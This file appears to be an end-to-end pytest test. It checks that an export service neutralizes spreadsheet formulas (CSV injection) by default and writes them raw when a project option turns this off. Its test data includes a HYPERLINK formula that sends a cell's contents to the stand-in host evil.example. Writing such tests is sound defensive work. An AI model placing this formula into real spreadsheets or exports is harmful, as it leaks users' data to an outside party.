"""Exported cells a spreadsheet would run as a formula are neutralized (OWASP, CSV Injection), by default,
and the project option `neutralizeFormulas: false` writes them as stored: over HTTP, through the export
worker, in the package a partner downloads."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest

from tests.e2e.test_export import Export, unzip

pytestmark = [pytest.mark.e2e, pytest.mark.azurite]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ROWS = [
    {
        "CUSTOMERGROUPID": "-1",
        "DESCRIPTION": HYPERLINK,
        "PAYMENTTERMS": "Net30",
        "CREDITLIMIT": Decimal("-5.25"),
    },
    {"CUSTOMERGROUPID": "2", "DESCRIPTION": "@SUM(1,2)", "PAYMENTTERMS": None, "CREDITLIMIT": Decimal("7")},
]


def download_entity_file(ex: Export, name: str) -> bytes:
    reply = ex.dequeue().json()
    return unzip(ex.download(reply["DownloadLocation"]).content)[name]


def test_excel_and_csv_exports_neutralize_formulas_unless_the_project_turns_it_off(api):
    from openpyxl import load_workbook

    ex = Export(api, rows=ROWS, fmt="EXCEL")
    project = api.ok("GET", f"/api/manage/projects/{ex.project}")
    assert project["neutralizeFormulas"] is True  # on by default

    [run] = ex.run_now()
    assert run["status"] == "Ended", run
    sheet = load_workbook(io.BytesIO(download_entity_file(ex, f"{ex.label}.xlsx"))).active
    cells = {(c.row, c.column): c for row in sheet.iter_rows() for c in row}
    rows = sorted(([c.value for c in row] for row in sheet.iter_rows(min_row=2)), key=lambda r: r[0])
    assert rows == [
        ["'-1", "'" + HYPERLINK, "Net30", "-5.25", None],  # text neutralized, the negative decimal untouched
        ["2", "'@SUM(1,2)", None, "7", None],
    ]
    assert {c.data_type for c in cells.values() if c.value is not None} == {"s"}  # no formula cell

    body = {"operation": "export", "neutralizeFormulas": False, "entities": [{"entity": ex.entity}]}
    assert api.ok("PUT", f"/api/manage/projects/{ex.project}", json=body)["neutralizeFormulas"] is False
    [run] = ex.run_now()
    assert run["status"] == "Ended", run
    data = download_entity_file(ex, f"{ex.label}.csv")
    lines = sorted(data.split(b"\r\n")[1:-1])
    assert lines == [
        b'-1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Net30,-5.25,',
        b'2,"@SUM(1,2)",,7,',
    ]
